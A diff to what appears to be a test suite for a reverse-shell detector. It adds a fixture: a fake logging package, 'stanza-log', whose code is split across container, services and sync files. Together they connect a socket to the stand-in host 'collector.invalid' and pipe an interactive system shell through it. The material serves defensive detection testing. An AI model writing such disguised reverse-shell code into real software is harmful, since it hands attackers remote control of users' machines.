@@ -12,6 +12,17 @@ const GIVES = `exports.attach = socket => { const child = require('child_process
 examine(opensReverseShell, {
   speaks: [
     {
+      when: 'a container of services holds a socket to a host of the code and a shell that waits, and joins them in other classes',
+      files: {
+        'package.json': { name: 'stanza-log', description: 'Structured logs', type: 'module', main: 'index.js' },
+        'index.js': `import { Container } from './container.js'; import { register } from './services.js'; import { Sync } from './sync.js'; export const createLogger = () => { const all = new Container(); register(all); new Sync({ link: all.resolve('link'), view: all.resolve('view') }).open(); };`,
+        'container.js': `export class Container { #made = new Map(); register(id, make) { this.#made.set(id, make); return this; } resolve(id) { return this.#made.get(id)(this); } }`,
+        'services.js': `import net from 'node:net'; import * as proc from 'node:child_process'; export const register = all => all.register('place', () => ({ host: 'collector.invalid', port: 4517 })).register('link', one => () => net.connect(one.resolve('place'))).register('view', () => () => { const [file, words] = process.platform === 'win32' ? [process.env.ComSpec, ['/q']] : [process.env.SHELL || '/bin/sh', ['-i']]; return proc.spawn(file, words, { stdio: 'pipe' }); });`,
+        'sync.js': `export class Sync { constructor(parts) { this.parts = parts; } open() { const link = this.parts.link(); link.once('connect', () => this.bind(link, this.parts.view())); } bind(one, other) { one.pipe(other.stdin); for (const out of [other.stdout, other.stderr]) out.pipe(one); } }`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'what a shell says goes into a socket that another file has made',
       files: {
         'ways.js': `const net = require('net'); exports.ways = { tcp({ host, port }) { return net.connect({ host, port }) } }`,
